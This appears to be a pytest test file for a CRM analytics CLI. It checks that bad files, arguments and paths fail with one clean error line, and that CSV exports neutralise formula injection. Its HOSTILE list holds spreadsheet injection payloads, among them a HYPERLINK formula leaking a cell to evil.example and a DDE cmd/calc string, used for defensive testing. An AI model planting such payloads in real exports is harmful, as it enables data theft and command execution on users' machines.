"""Hostile and broken inputs (issue #22): one line, exit 2, nothing written; or a named exclusion.

The contract: a bad file or argument gives exit code 2 and exactly one stderr line
``crmlab: error: ...`` naming the file or argument (and the column and rows where that
helps), no traceback, nothing written; the Python API raises ``CrmlabInputError``. Where a
ledger is printed it balances: input_rows == used_rows + sum(excluded). Lists written as
CSV open safely in Excel/WPS (formula-leading text gets a leading ``'``) unless ``--csv-raw``.
"""
from __future__ import annotations

import csv
import json
import os
import time

import pandas as pd
import pytest

import crmlab
from crmlab.cli.main import main
from crmlab.schema import CrmlabInputError

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


def _files(root) -> set[str]:
    return {os.path.relpath(os.path.join(d, f), root) for d, _, fs in os.walk(root) for f in fs}


def _run(capsys, tmp_path, argv, rc: int = 2, *expect: str) -> str:
    """Run the CLI; check the exit code, exactly one stderr line (for an error), no traceback,
    no stdout and no new file in ``tmp_path`` on an error. Returns the stderr line."""
    before = _files(tmp_path)
    got = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    assert got == rc, err
    assert "Traceback" not in err
    if rc == 2:
        lines = err.splitlines()
        assert len(lines) == 1 and lines[0].startswith("crmlab: error: "), err
        assert out == ""
        assert _files(tmp_path) == before  # nothing written
        assert len(lines[0]) < 600  # never an echo of a huge value
        for e in expect:
            assert e in lines[0], lines[0]
        return lines[0]
    return err


def _balanced(d: dict) -> None:
    assert d["input_rows"] == d["used_rows"] + sum(d["excluded"].values()), d


@pytest.fixture()
def orders(tmp_path):
    """Six orders of four customers, two of them repeat buyers."""
    p = tmp_path / "orders.csv"
    pd.DataFrame({"customer_id": ["a", "b", "a", "c", "d", "b"], "order_id": [f"o{i}" for i in range(6)],
                  "order_time": ["2025-01-01 10:00:00", "2025-01-02 10:00:00", "2025-02-01 10:00:00",
                                 "2025-02-02 10:00:00", "2025-03-01 10:00:00", "2025-03-05 10:00:00"],
                  "amount": ["10", "20", "30", "40", "50", "60"]}).to_csv(p, index=False)
    return p


def _sends(tmp_path, **extra):
    p = tmp_path / "sends.csv"
    df = pd.DataFrame({"customer_id": ["a", "b", "c", "d"], "campaign_id": "c1", "variant": ["A", "B", "A", "B"],
                       "send_time": ["2025-01-01 09:00:00", "2025-01-01 09:00:00", "2025-02-01 09:00:00",
                                     "2025-02-01 09:00:00"], **extra})
    df.to_csv(p, index=False)
    return p


# ---------------------------------------------------------------- files that are not files

def test_dev_zero_is_refused_at_once(tmp_path, capsys):
    # Before: read until 16 GB of memory and a hang.
    t0 = time.perf_counter()
    _run(capsys, tmp_path, ["validate", "--orders", "/dev/zero"], 2, "--orders", "/dev/zero", "not a regular file")
    assert time.perf_counter() - t0 < 5


def test_a_fifo_is_refused_without_blocking(tmp_path, capsys):
    fifo = tmp_path / "orders.csv"
    os.mkfifo(fifo)
    _run(capsys, tmp_path, ["magic-number", "--orders", fifo], 2, "--orders", "FIFO")
    with pytest.raises(CrmlabInputError, match="FIFO"):
        crmlab.load_orders(fifo)


def test_a_device_through_the_api(tmp_path):
    with pytest.raises(CrmlabInputError, match="character device"):
        crmlab.load_orders("/dev/zero")
    with pytest.raises(CrmlabInputError, match="character device"):
        crmlab.load_sends("/dev/null")


def test_a_send_log_that_is_a_directory(tmp_path, capsys, orders):
    (tmp_path / "sends.csv").mkdir()
    _run(capsys, tmp_path, ["abtest", "--orders", orders, "--sends", tmp_path / "sends.csv"], 2,
         "sends.csv: is a directory")


@pytest.mark.parametrize("argv,name", [(["validate", "--orders", ""], "--orders"),
                                       (["validate", "--orders", "   "], "--orders"),
                                       (["abtest", "--orders", "{O}", "--sends", ""], "--sends")])
def test_an_empty_file_name_names_the_argument(tmp_path, capsys, orders, argv, name):
    # Before: "crmlab: error: : file not found ()".
    line = _run(capsys, tmp_path, [str(orders) if a == "{O}" else a for a in argv], 2, name, "empty")
    assert "file not found ()" not in line


@pytest.mark.parametrize("call", ["load", "load_orders", "load_sends"])
def test_none_is_an_input_error_in_the_api(call):
    with pytest.raises(CrmlabInputError, match="None"):
        getattr(crmlab, call)(None)


def test_engine_load_of_none():
    from crmlab.engine.loading import load

    with pytest.raises(CrmlabInputError, match="None"):
        load(None)


# ---------------------------------------------------------------- bounded reading

def test_a_line_over_the_limit_is_refused_naming_the_limit(tmp_path, capsys, monkeypatch):
    import crmlab.ingest.tables as io

    monkeypatch.setattr(io, "MAX_LINE_BYTES", 2**20)  # 1 MB here; 64 MB by default
    p = tmp_path / "orders.csv"
    p.write_text("customer_id,order_id,order_time,amount\na,1,2025-01-01,1\n" + "x" * (2 * 2**20) + ",2,2025-01-02,1\n",
                 encoding="utf-8")
    _run(capsys, tmp_path, ["validate", "--orders", p], 2, "orders.csv: line 3 is longer than 1 MB", "limit")
    with pytest.raises(CrmlabInputError, match="longer than 1 MB"):
        crmlab.load_sends(p)


def test_a_file_without_line_breaks_stops_at_the_limit(tmp_path, capsys, monkeypatch):
    import crmlab.ingest.tables as io

    monkeypatch.setattr(io, "MAX_LINE_BYTES", 2**20)
    p = tmp_path / "orders.csv"
    p.write_bytes(b"\0" * (3 * 2**20))  # a binary file named .csv
    _run(capsys, tmp_path, ["retention", "--orders", p], 2, "orders.csv: line 1 is longer than 1 MB")


def test_too_many_columns_are_refused_naming_the_limit(tmp_path, capsys, monkeypatch):
    import crmlab.ingest.tables as io

    monkeypatch.setattr(io, "MAX_COLUMNS", 10)
    p = tmp_path / "orders.csv"
    cols = ["customer_id", "order_id", "order_time", "amount"] + [f"x{i}" for i in range(8)]
    p.write_text(",".join(cols) + "\n" + ",".join(["a", "1", "2025-01-01", "1"] + ["z"] * 8) + "\n", encoding="utf-8")
    _run(capsys, tmp_path, ["validate", "--orders", p], 2, "12 columns", "limit of 10")


def test_a_long_value_and_a_wide_file_within_the_limits_read(tmp_path, capsys):
    # a 2 MB customer id and 5,000 columns are within the limits (64 MB, 10,000): read as they are
    p = tmp_path / "wide.csv"
    cols = ["customer_id", "order_id", "order_time", "amount"] + [f"x{i}" for i in range(4996)]
    rows = [["y" * (2 * 2**20), "1", "2025-01-01", "5"], ["b", "2", "2025-01-02", "6"]]
    with open(p, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(cols)
        for r in rows:
            w.writerow(r + ["z"] * 4996)
    _run(capsys, tmp_path, ["validate", "--orders", p, "--json"], 0)


def test_a_huge_header_is_never_echoed(tmp_path, capsys):
    # Before: the whole 50 MB header came back in "columns found: ...".
    p = tmp_path / "orders.csv"
    p.write_text("h" * 1_000_000 + ",order_id\n1,2\n", encoding="utf-8")
    line = _run(capsys, tmp_path, ["validate", "--orders", p], 2, "missing column 'customer_id'", "1,000,000 characters")
    assert len(line) < 400


# ---------------------------------------------------------------- outputs that cannot be written

def test_an_output_under_a_file(tmp_path, capsys, orders):
    (tmp_path / "file.txt").write_text("x")
    _run(capsys, tmp_path, ["clv", "--orders", orders, "--values-out", tmp_path / "file.txt" / "x.csv"], 2,
         "--values-out", "is a file, not a folder")


def test_values_out_under_etc_passwd(tmp_path, capsys, orders):
    _run(capsys, tmp_path, ["clv", "--orders", orders, "--values-out", "/etc/passwd/x.csv"], 2, "--values-out")


@pytest.mark.skipif(not os.path.isdir("/proc/self"), reason="needs /proc (a folder nobody can write in)")
@pytest.mark.parametrize("argv,flag", [(["lifecycle", "--out", "/proc/crmlab-x.csv"], "--out /proc/crmlab-x.csv"),
                                       (["lifecycle", "--out", "/proc/crmlab-x.parquet"], "--out"),
                                       (["summary", "--out", "/proc/crmlab-x.parquet"], "--out"),
                                       (["validate", "--clean-out", "/proc/crmlab-x.parquet"], "--clean-out")])
def test_an_unwritable_folder_is_one_line(tmp_path, capsys, orders, argv, flag):
    # Before: DuckDB's IOException as a traceback (it is not an OSError).
    _run(capsys, tmp_path, [argv[0], "--orders", orders, *argv[1:]], 2, flag, "cannot write")


def test_warm_up_out_in_a_missing_folder(tmp_path, capsys, orders):
    _run(capsys, tmp_path, ["promotion", "--orders", orders, "--warm-up-out", tmp_path / "nope" / "w.csv"], 2,
         "--warm-up-out", "does not exist")


# ---------------------------------------------------------------- engines and their settings

def test_a_memory_limit_too_small_says_the_minimum(tmp_path, capsys, orders):
    _run(capsys, tmp_path, ["validate", "--orders", orders, "--memory-limit", "1KB"], 2, "--memory-limit",
         "at least 64MB")


@pytest.mark.parametrize("master", ["foo", "spark://host-without-port", "local[0]", "spark://h:99999"])
def test_a_malformed_spark_master(tmp_path, capsys, orders, master):
    _run(capsys, tmp_path, ["validate", "--orders", orders, "--engine", "spark", "--spark-master", master], 2,
         "--spark-master")


def test_an_unreachable_spark_master_fails_fast(tmp_path, capsys, orders):
    # Before: a minute of retries and a Java stack trace. Port 1 on this machine refuses at once.
    pytest.importorskip("pyspark")
    t0 = time.perf_counter()
    _run(capsys, tmp_path, ["validate", "--orders", orders, "--engine", "spark", "--spark-master",
                            "spark://127.0.0.1:1"], 2, "--spark-master spark://127.0.0.1:1", "cannot reach")
    assert time.perf_counter() - t0 < 10


def test_a_master_that_never_answers_is_bounded(monkeypatch):
    # a master that accepts the connection but never registers the application
    import threading

    from crmlab.engine import connection

    monkeypatch.setattr(connection, "SPARK_START_TIMEOUT", 0.2)
    never = threading.Event()

    class Builder:
        def getOrCreate(self):
            never.wait(5)

    t0 = time.perf_counter()
    with pytest.raises(CrmlabInputError, match="no Spark session after 0.2 s"):
        connection._start(Builder(), "spark://example:7077")
    assert time.perf_counter() - t0 < 3
    never.set()


def _duckdb_file(tmp_path, **over):
    import duckdb

    path = tmp_path / "wh.duckdb"
    df = pd.DataFrame({"customer_id": ["a", "b"], "order_id": ["1", "2"],
                       "order_time": pd.to_datetime(["2025-01-01", "2025-01-02"]), "amount": [1.0, 2.0],
                       "status": ["paid", "paid"]})
    for k, v in over.items():
        df[k] = v
    con = duckdb.connect(str(path))
    con.register("df", df)
    con.execute("CREATE TABLE orders AS SELECT * FROM df")
    con.close()
    return path


def test_a_missing_duckdb_table_lists_the_tables(tmp_path, capsys):
    path = _duckdb_file(tmp_path)
    _run(capsys, tmp_path, ["validate", "--orders", f"duckdb:{path}:missing_table"], 2,
         "no table 'missing_table'", "tables: orders")


@pytest.mark.parametrize("column,values", [("amount", ["1.5", "x"]), ("order_time", ["2025-01-01", "soon"])])
def test_a_duckdb_table_with_text_amounts_or_times(tmp_path, capsys, column, values):
    path = _duckdb_file(tmp_path, **{column: values})
    _run(capsys, tmp_path, ["magic-number", "--orders", f"duckdb:{path}:orders"], 2, f"column '{column}' is string")


def test_a_file_that_is_not_a_duckdb_database(tmp_path, capsys, orders):
    _run(capsys, tmp_path, ["validate", "--orders", f"duckdb:{orders}:orders"], 2, "cannot open orders.csv")


@pytest.mark.parametrize("flag,value", [("--date", "2300-11-11"), ("--last-year-date", "1500-11-11")])
def test_a_promotion_day_out_of_range(tmp_path, capsys, orders, flag, value):
    # Before: pandas' OutOfBoundsDatetime traceback.
    _run(capsys, tmp_path, ["promotion", "--orders", orders, flag, value], 2, flag, "1700 to 2200")


# ---------------------------------------------------------------- Excel workbooks of several sheets

def _workbook(tmp_path, sheets: dict) -> str:
    p = tmp_path / "orders.xlsx"
    with pd.ExcelWriter(p) as w:
        for name, df in sheets.items():
            df.to_excel(w, sheet_name=name, index=False)
    return p


def _orders_frame(amount="10"):
    return pd.DataFrame({"customer_id": ["a", "b"], "order_id": ["1", "2"],
                         "order_time": ["2025-01-01 10:00:00", "2025-01-02 10:00:00"], "amount": [amount, amount]})


def test_the_only_sheet_with_the_order_columns_is_read_with_a_warning(tmp_path, capsys):
    # Before: the first sheet (refunds) was read silently, giving wrong numbers or an error.
    refunds = pd.DataFrame({"退款编号": ["r1"], "退款金额": ["5"]})
    p = _workbook(tmp_path, {"退款": refunds, "订单": _orders_frame("10")})
    err = _run(capsys, tmp_path, ["validate", "--orders", p, "--json"], 0)
    assert err.count("crmlab: warning:") == 1 and "'订单'" in err
    orders, led = crmlab.load_orders(p)
    assert orders["amount"].tolist() == [10.0, 10.0]
    assert any("sheet '订单'" in w for w in led.warnings)
    _balanced(led.to_dict())


def test_several_sheets_with_the_order_columns_need_sheet(tmp_path, capsys):
    p = _workbook(tmp_path, {"2024": _orders_frame("10"), "2025": _orders_frame("99")})
    _run(capsys, tmp_path, ["validate", "--orders", p], 2, "orders.xlsx: 2 sheets", "2024, 2025", "--sheet")
    main(["validate", "--orders", str(p), "--sheet", "2025", "--json"])
    d = json.loads(capsys.readouterr().out)["orders"]
    _balanced(d)
    orders, _ = crmlab.load_orders(p, sheet="2025")
    assert orders["amount"].tolist() == [99.0, 99.0]


def test_an_unknown_sheet_lists_the_sheets(tmp_path, capsys):
    p = _workbook(tmp_path, {"a": _orders_frame(), "b": _orders_frame()})
    _run(capsys, tmp_path, ["validate", "--orders", p, "--sheet", "nope"], 2, "--sheet 'nope': no such sheet",
         "sheets: a, b")


def test_a_sends_workbook_of_several_sheets(tmp_path, capsys, orders):
    p = tmp_path / "sends.xlsx"
    s = pd.DataFrame({"customer_id": ["a", "b"], "campaign_id": "c1", "variant": ["A", "B"],
                      "send_time": "2025-01-01 09:00:00"})
    with pd.ExcelWriter(p) as w:
        s.to_excel(w, sheet_name="x", index=False)
        s.to_excel(w, sheet_name="y", index=False)
    _run(capsys, tmp_path, ["validate", "--orders", orders, "--sends", p], 2, "sends.xlsx: 2 sheets", "--sends-sheet")
    assert main(["validate", "--orders", str(orders), "--sends", str(p), "--sends-sheet", "y", "--json"]) == 0
    _balanced(json.loads(capsys.readouterr().out)["sends"])


# ---------------------------------------------------------------- messages and ledgers

def test_phone_shaped_customer_ids_give_one_clear_warning(tmp_path, capsys):
    # Before: three reports failed one by one for "personal data"; now the loader says it once.
    p = tmp_path / "orders.csv"
    pd.DataFrame({"customer_id": ["+86 138 0013 8000", "+86 139 0013 8001"], "order_id": ["1", "2"],
                  "order_time": ["2025-01-01", "2025-01-02"], "amount": ["1", "2"]}).to_csv(p, index=False)
    err = _run(capsys, tmp_path, ["validate", "--orders", p, "--json"], 0)
    assert err.count("\n") == 1 and "customer ids look like phone numbers" in err and "masked" in err
    _, led = crmlab.load_orders(p)
    assert sum("look like phone numbers" in w for w in led.warnings) == 1


def test_validate_excludes_sends_after_the_observation_end_as_abtest_does(tmp_path, capsys, orders):
    # Before: validate said every send was usable, and abtest then rejected them.
    p = _sends(tmp_path)
    pd.concat([pd.read_csv(p), pd.DataFrame({"customer_id": ["a", "b"], "campaign_id": "c1", "variant": ["A", "B"],
                                             "send_time": "2025-06-01 09:00:00"})]).to_csv(p, index=False)
    assert main(["validate", "--orders", str(orders), "--sends", str(p), "--json"]) == 0
    d = json.loads(capsys.readouterr().out)["sends"]
    assert d["excluded"] == {"after_observation_end": 2} and d["examples"]["after_observation_end"] == [5, 6]
    _balanced(d)
    assert main(["validate", "--orders", str(orders), "--sends", str(p)]) == 0
    assert "after_observation_end" in capsys.readouterr().out


def test_negative_cost_and_segments_are_excluded(tmp_path, capsys, orders):
    p = _sends(tmp_path, cost=["0.05", "-0.05", "0.05", "0.05"], segments=["1", "1", "-2", "1"])
    assert main(["validate", "--orders", str(orders), "--sends", str(p), "--json"]) == 0
    d = json.loads(capsys.readouterr().out)["sends"]
    assert d["excluded"] == {"negative_cost": 1, "negative_segments": 1}
    assert d["examples"] == {"negative_cost": [2], "negative_segments": [3]}
    _balanced(d)


def test_ledgers_balance_with_several_reasons(tmp_path, capsys):
    p = tmp_path / "orders.csv"
    pd.DataFrame({"customer_id": ["a", "", "b", "c", "c"], "order_id": ["1", "2", "3", "4", "4"],
                  "order_time": ["2025-01-01", "2025-01-02", "never", "2025-01-03", "2025-01-03"],
                  "amount": ["-1", "2", "3", "x", "x"]}).to_csv(p, index=False)
    _run(capsys, tmp_path, ["validate", "--orders", p, "--json"], 2, "orders.csv: no usable rows")
    with open(p, "a", encoding="utf-8") as f:
        f.write("d,9,2025-01-04,5\n")
    assert main(["validate", "--orders", str(p), "--json"]) == 0
    d = json.loads(capsys.readouterr().out)["orders"]
    assert d["used_rows"] == 1 and d["input_rows"] == 6 and len(d["excluded"]) >= 4
    _balanced(d)


# ---------------------------------------------------------------- CSV formula injection

@pytest.fixture()
def hostile_store(small_store, tmp_path):
    """The small store with the four busiest customers renamed to formula-looking ids."""
    o = pd.read_csv(small_store / "orders.csv", dtype=str, keep_default_na=False)
    s = pd.read_csv(small_store / "sends.csv", dtype=str, keep_default_na=False)
    busiest = o["customer_id"].value_counts().index[:4]
    rename = dict(zip(busiest, HOSTILE))
    o["customer_id"] = o["customer_id"].replace(rename)
    s["customer_id"] = s["customer_id"].replace(rename)
    o.to_csv(tmp_path / "orders.csv", index=False)
    s.to_csv(tmp_path / "sends.csv", index=False)
    return tmp_path


def _ids(path) -> set[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return {r[0] for r in list(csv.reader(f))[1:]}


def _check_written(path, raw: bool) -> None:
    ids = _ids(path)
    for h in HOSTILE:
        assert (h if raw else "'" + h) in ids, (h, sorted(ids)[:6])
        assert (("'" + h) not in ids) if raw else (h not in ids)
    assert not any(i.startswith(("=", "+", "-", "@")) for i in ids) or raw


@pytest.mark.parametrize("raw", [False, True])
def test_lifecycle_csv_from_the_engine(hostile_store, capsys, raw):
    out = hostile_store / "stages.csv"
    argv = ["lifecycle", "--orders", hostile_store / "orders.csv", "--out", out] + (["--csv-raw"] if raw else [])
    assert main([str(a) for a in argv]) == 0
    capsys.readouterr()
    _check_written(out, raw)
    df = pd.read_csv(out, dtype={"customer_id": str})
    assert pd.api.types.is_numeric_dtype(df["sales"]) and (df["sales"] >= 0).all()  # numbers untouched


@pytest.mark.parametrize("raw", [False, True])
def test_responses_csv(hostile_store, capsys, raw):
    out = hostile_store / "responses.csv"
    argv = ["responses", "--orders", hostile_store / "orders.csv", "--sends", hostile_store / "sends.csv",
            "--out", out] + (["--csv-raw"] if raw else [])
    assert main([str(a) for a in argv]) == 0
    capsys.readouterr()
    ids = _ids(out)
    assert sum((h if raw else "'" + h) in ids for h in HOSTILE) >= 2  # the messaged ones
    assert not (ids & set(["'" + h for h in HOSTILE] if raw else HOSTILE))


def test_clv_values_csv(hostile_store, capsys):
    out, raw_out = hostile_store / "values.csv", hostile_store / "values_raw.csv"
    base = ["clv", "--orders", str(hostile_store / "orders.csv"), "--model", "bgnbd", "--holdout-days", "0"]
    assert main(base + ["--values-out", str(out)]) == 0
    assert main(base + ["--values-out", str(raw_out), "--csv-raw"]) == 0
    capsys.readouterr()
    _check_written(out, False)
    _check_written(raw_out, True)
    from crmlab.present.spreadsheet import restore_cell

    a, b = pd.read_csv(out, dtype={0: str}), pd.read_csv(raw_out, dtype={0: str})
    key = a.columns[0]
    a[key] = a[key].map(restore_cell)
    num = ["frequency", "recency", "T", "monetary_value"]  # the summary (model outputs may vary by run)
    a, b = a.set_index(key).sort_index()[num], b.set_index(key).sort_index()[num]
    # numbers untouched; the quote is all that differs (DuckDB's float sums may differ in the last bit run to run)
    assert (a.index == b.index).all()
    pd.testing.assert_frame_equal(a, b, check_exact=False, rtol=1e-12)


def test_promotion_warm_up_csv(tmp_path, capsys):
    # the warm-up list is old customers: write_csv neutralises it like the others
    from crmlab.present.spreadsheet import write_csv

    df = pd.DataFrame({"customer_id": HOSTILE + ["ok"], "sales": [-1.5, 2, 3, 4, 5]})
    write_csv(df, tmp_path / "w.csv", index=False)
    _check_written(tmp_path / "w.csv", False)
    assert pd.read_csv(tmp_path / "w.csv")["sales"].tolist() == [-1.5, 2, 3, 4, 5]


def test_promotion_warm_up_out_through_the_cli(hostile_store, capsys, monkeypatch):
    import crmlab.promotion.plan as promotion

    real = promotion.warm_up_list

    def with_hostile(o, r):  # the list is whatever old customers qualify: make sure the hostile ones do
        w = real(o, r)
        extra = pd.DataFrame({c: [None] * len(HOSTILE) for c in w.columns})
        extra["customer_id"] = HOSTILE
        return pd.concat([w, extra], ignore_index=True)

    monkeypatch.setattr(promotion, "warm_up_list", with_hostile)
    for raw in (False, True):
        out = hostile_store / f"warm_{raw}.csv"
        argv = ["promotion", "--orders", str(hostile_store / "orders.csv"), "--no-clv-check", "--warm-up-out", str(out)]
        assert main(argv + (["--csv-raw"] if raw else [])) == 0
        capsys.readouterr()
        _check_written(out, raw)


def test_engine_neutralisation_keeps_nulls_and_numbers():
    from crmlab.engine.connection import connect
    from crmlab.engine.aggregates import neutralise_strings

    e = connect("duckdb")
    t = e.register(pd.DataFrame({"id": HOSTILE + ["ok", None, "\tx"], "n": [-1.5, 2, 3, 4, 5, 6, 7]}))
    got = e.to_pandas(neutralise_strings(t))
    assert got["id"].tolist()[:4] == ["'" + h for h in HOSTILE]
    assert got["id"].tolist()[4] == "ok" and got["id"].isna().tolist()[5] and got["id"].tolist()[6] == "'\tx"
    assert got["n"].tolist() == [-1.5, 2, 3, 4, 5, 6, 7]


@pytest.mark.spark
def test_engine_neutralisation_in_spark(tmp_path):
    from crmlab.engine.connection import connect
    from crmlab.engine.aggregates import write_rows

    e = connect("spark", spark_master="local[2]")
    t = e.register(pd.DataFrame({"customer_id": HOSTILE + ["ok"], "n": [-1.5, 2, 3, 4, 5]}))
    write_rows(e, t, str(tmp_path / "s.csv"))
    write_rows(e, t, str(tmp_path / "r.csv"), raw=True)
    _check_written(tmp_path / "s.csv", False)
    _check_written(tmp_path / "r.csv", True)
